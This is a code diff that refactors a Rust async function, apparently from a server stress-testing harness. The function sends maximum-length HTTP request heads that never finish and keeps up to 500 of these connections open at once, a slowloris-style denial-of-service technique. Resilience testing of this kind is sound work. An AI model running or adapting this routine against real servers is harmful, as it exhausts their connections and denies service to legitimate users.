@@ -1,26 +1,26 @@
-//! Heads of requests that are as long as they may be and do not end.
+//! Request heads of the maximum length that never end.
 
 use super::Attacker;
 use std::{collections::VecDeque, time::Duration};
 use tokio::time::sleep;
 
-/// Bytes of a head.
+/// Bytes of a request head.
 const SIZE: usize = 390 << 10;
-/// Connections that are held at once.
-const HELD: usize = 500;
-const PAUSE: Duration = Duration::from_millis(5);
+/// Connections that are open at once.
+const MAX_OPEN: usize = 500;
+const CONNECT_INTERVAL: Duration = Duration::from_millis(5);
 
-/// Sends heads without a token, each up to its last line.
+/// Sends request heads without a token and without their last line.
 pub async fn long_heads(attacker: Attacker) {
     let head = format!("GET /healthz HTTP/1.1\r\nX: {}", "x".repeat(SIZE));
-    let mut held = VecDeque::new();
-    while attacker.goes_on() {
+    let mut open = VecDeque::new();
+    while attacker.is_active() {
         if let Ok(stream) = attacker.send(&[head.as_bytes()]).await {
-            held.push_back(stream);
+            open.push_back(stream);
         }
-        if held.len() > HELD {
-            held.pop_front();
+        if open.len() > MAX_OPEN {
+            open.pop_front();
         }
-        sleep(PAUSE).await;
+        sleep(CONNECT_INTERVAL).await;
     }
 }
